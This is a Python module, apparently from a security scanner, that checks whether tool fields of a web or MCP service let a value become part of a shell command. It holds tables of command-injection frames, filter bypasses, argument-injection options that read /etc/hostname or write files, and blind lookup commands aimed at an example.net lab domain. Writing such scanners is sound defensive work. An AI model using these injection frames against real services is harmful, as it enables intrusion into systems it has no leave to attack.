"""D01: does a value become part of a command? Who obeys writes a number in another base; no payload holds the result."""

from __future__ import annotations

import os
from collections.abc import Iterator

from mcpweb.plugin import CheckResult

from . import marks, paths
from .attack import Attack, Family, declared

CHECK = "D01"
SHELL = r"\b(commands?|shell|bash|terminal|cmd|exec(ute)?|console|powershell|process(es)?|script|cli)\b"
FIX = "Start programs with a list of arguments and without a shell, and put -- before values that come from outside."

CONTEXTS = (  # as small as they can be: a filter may know one sign and forget the next
    ("after ;", "{v};{x}"),
    ("after |", "{v}|{x}"),
    ("after &&", "{v}&&{x}"),
    ("after ||", "{v}||{x}"),
    ("after &", "{v}&{x}"),
    ("on a new line", "{v}\n{x}\n"),
    ("in $()", "{v}$({x})"),
    ("in backticks", "{v}`{x}`"),
    ("after a single quote", "{v}';{x};'"),
    ("after a double quote", '{v}";{x};"'),
    ("after a single quote, rest commented out", "{v}';{x} #"),
    ("after a double quote, rest commented out", '{v}";{x} #'),
    ("in a program that is given the value, after ;", '{v};system("{x}")'),
    ("in a program that is given the value", 'BEGIN{system("{x}")}'),
    ("in a script of sed", "{v};1e {x}"),
)
FURTHER = (
    ("after ; with the rest commented out", "{v};{x} #"),
    ("after ; without a valid value", ";{x};"),
    ("after | without a valid value", "|{x}"),
    ("after a closing parenthesis", "{v});{x} #"),
    ("after a single quote and a parenthesis", "{v}');{x} #"),
    ("after a double quote and a parenthesis", '{v}");{x} #'),
    ("between quotes in $()", "{v}'$({x})'"),
    ("after a quote and |", "{v}'|{x} #"),
    ("after a double quote and |", '{v}"|{x} #'),
    ("after a quote and &&", "{v}'&&{x}&&'"),
    ("after a double quote and &&", '{v}"&&{x}&&"'),
    ("on a new line after a quote", "{v}'\n{x}\n'"),
    ("on a new line after a double quote", '{v}"\n{x}\n"'),
    ("on a new line with carriage return", "{v}\r\n{x}\r\n"),
    ("in process substitution", "{v} <({x})"),
)
CALLED = ('{v};system("{x}")', 'BEGIN{system("{x}")}')
BLIND = ("{v};{x};#", "{v}|{x}", "{v}';{x};'", '{v}";{x};"', "{v}$({x})", "{v}`{x}`", "{v}\n{x}\n")
ASKING = (  # what images have that asks for a name
    "getent hosts {n}",
    "nslookup {n}",
    "python3 -c 'import socket,sys;socket.gethostbyname(sys.argv[1])' {n}",
    "node -e 'require(\"dns\").lookup(process.argv[1],()=>0)' {n}",
    "ping -c1 -W1 {n}",
    "wget -T2 -qO- {n}",
    "curl -m2 {n}",
)
OPTIONS = ("{v} {p}", "-f{p}", "--files0-from={p}", "--file={p}", "@{p}", "--from-file={p}", "-d@{p}", "--config={p}")
WRITING = ("-o/{p}", "{v} -o /{p}", "--output=/{p}", "-w/{p}", "-O /{p}")
FIND = (". -exec {x} ;", "-exec {x} ;", "{v} -exec {x} ;", "--checkpoint=1 --checkpoint-action=exec='{x}'")


def first(attack: Attack) -> Iterator[CheckResult | None]:
    """Try each context with an answer to be read, then some with traces elsewhere."""
    whole = _computed(attack, "as the whole command", "{x}", " ")
    if whole is not None:
        yield _by_design(attack, whole)
        return
    for way, frame in CONTEXTS:
        hit = _computed(attack, way, frame, " ")
        if hit is not None:
            yield hit
            return
    if attack.point.kind == "number":
        return
    for frame in (*BLIND, *CALLED):
        _blind(attack, frame, ask=False)
    for frame in WRITING:
        _into(attack, frame)
    yield from _options(attack, OPTIONS[:2])


def more(attack: Attack) -> Iterator[CheckResult | None]:
    """Try what passes filters, and options of the program that is started."""
    for way, frame in FURTHER:
        hit = _computed(attack, way, frame, " ")
        if hit is not None:
            yield hit
            return
    for space in ("${IFS}", "\t"):
        for way, frame in CONTEXTS[:8]:
            hit = _computed(attack, f"{way}, without a space", frame, space)
            if hit is not None:
                yield hit
                return
    for frame in BLIND:
        _blind(attack, frame, ask=True)
    for frame in FIND:
        hit = _computed(attack, "as an option that starts programs", frame, " ")
        if hit is not None:
            yield hit
            return
    yield from _options(attack, OPTIONS[2:])


def _command(space: str) -> tuple[str, str]:
    prefix, value = marks.token(4), marks.number(11)
    return f"printf{space}{prefix}%x{space}{value}", f"{prefix}{value:x}"


def _computed(attack: Attack, way: str, frame: str, space: str) -> CheckResult | None:
    """Send a command that writes a number in hexadecimal, twice with other numbers; both must have been written."""
    seen: list[tuple[str, str, str, str]] = []
    for _ in range(2):
        command, result = _command(space)
        payload = frame.replace("{v}", attack.brief).replace("{x}", command)
        reply = attack.send(payload)
        text = reply.text if result in reply.text else attack.stand.beside() if reply.outcome != "timeout" else ""
        if result not in text:
            if not seen:
                return None
            reply = attack.send(payload)  # a server may be slow once
            if result not in reply.text:
                return None
            text = reply.text
        seen.append((payload, command, result, text))
    payload, command, result, text = seen[-1]
    return attack.fail(
        CHECK,
        f"A value in {attack.point.pointer} is run by a shell ({way}): {command!r} was carried out.",
        sent=payload,
        next_step=FIX,
        way=way,
        computed=result,
        answer=marks.span(text, result),
        first={"sent": seen[0][0], "computed": seen[0][2]},
    )


def _by_design(attack: Attack, hit: CheckResult) -> CheckResult:
    """Return the verdict on a field that takes whole commands: a shell that says so is a capability, not a hidden flaw."""
    if not declared(attack.point, SHELL):
        return hit
    return attack.fail(
        CHECK,
        f"The tool runs any command that is put in {attack.point.pointer}, as it says of itself.",
        sent=hit.evidence["sent"],
        severity="medium",
        way="by design",
        computed=hit.evidence["computed"],
        answer=hit.evidence["answer"],
        next_step="Keep it only where a model may have a shell in this container; take the tool out of the allow-list elsewhere, "
        "or let it start only programs from a list.",
    )


def _blind(attack: Attack, frame: str, ask: bool, again: bool = False) -> tuple[str, str]:
    """Send a command whose result is the name of a file, or a name that is asked for; return payload and mark."""
    a, b, end = marks.number(), marks.number(), marks.token(8)
    mark = f"q{a * b}"
    name = f"q$(({a}*{b})).{end}.example.net"
    command = "||".join(form.replace("{n}", name) for form in ASKING) if ask else f"touch /tmp/q$(({a}*{b}))"
    payload = frame.replace("{v}", attack.brief).replace("{x}", command)
    if not again:
        attack.hope(CHECK, mark, "anywhere", frame, lambda other: _blind_again(other, frame, ask))
    attack.send(payload)
    return payload, mark


def _blind_again(attack: Attack, frame: str, ask: bool) -> CheckResult | None:
    payload, mark = _blind(attack, frame, ask, again=True)
    event = attack.lab.sink.wait(lambda one: one.mentions(mark), deadline_s=1.0)
    path = next((path for path in attack.stand.changed() if mark in path), "")
    beside = marks.span(attack.stand.beside(), mark) if mark in attack.stand.beside() else ""
    if event is None and not path and not beside:
        return None
    seen = f"the name {event.name} was asked for" if event else f"the file {path} was made" if path else "it stands in the log"
    return attack.fail(
        CHECK,
        f"A value in {attack.point.pointer} is run by a shell, unseen in the answer: {seen}.",
        sent=payload,
        next_step=FIX,
        way=frame,
        computed=mark,
        network=event.name if event else "",
        file=path,
        log=beside,
    )


def _into(attack: Attack, frame: str, again: bool = False) -> tuple[str, str]:
    """Give an option by which programs write somewhere; return what was sent and the path."""
    name = marks.token()
    folder = "var/tmp" if "/tmp" in attack.lab.said else "tmp"
    sent = frame.replace("{v}", attack.valid).replace("{p}", f"{folder}/{name}")
    attack.send(sent)
    if not again:
        attack.hope(CHECK, name, "path", frame, lambda other: _into_again(other, frame))
    return sent, name


def _into_again(attack: Attack, frame: str) -> CheckResult | None:
    sent, name = _into(attack, frame, again=True)
    inside = marks.token()
    path = paths.outside(attack, name, inside, attack.send(inside))
    if os.path.basename(path) != name or any(inside in one for one in attack.stand.changed()):
        return None  # what takes names of files is another matter
    return attack.fail(
        CHECK,
        f"A value in {attack.point.pointer} is taken for an option of a program, which writes where it says.",
        sent=sent,
        severity="high",
        next_step=FIX,
        way="argument injection",
        file=path,
    )


def _options(attack: Attack, options: tuple[str, ...]) -> Iterator[CheckResult | None]:
    """Give options that make programs read a file: the answer then holds what only that file holds."""
    canary = attack.canary
    for option in options:
        frame = option.replace("{v}", attack.valid)
        payload = frame.replace("{p}", "/etc/hostname")
        reply = attack.send(payload)
        found = marks.read(canary, reply.text)
        if not found or marks.read(canary, attack.plain().text):
            continue
        other = attack.send(frame.replace("{p}", f"/etc/{marks.token()}"))
        again = attack.send(frame.replace("{p}", "/etc//hostname"))
        if not other.answered or marks.read(canary, other.text) or not marks.read(canary, again.text):
            continue
        yield attack.fail(
            CHECK,
            f"A value in {attack.point.pointer} is taken for an option of a program, which reads a file for it.",
            sent=payload,
            severity="high",
            next_step=FIX,
            way="argument injection",
            reply=reply,
            mark=found,
            control={"sent": frame.replace("{p}", "/etc/(random)"), "answer": other.text[:200]},
        )
        return


FAMILY = Family(
    CHECK, first, more, likely=rf"{SHELL}|ping|host|git|convert|archive|compile|lint|build|file|image|pdf|domain", numbers=True
)
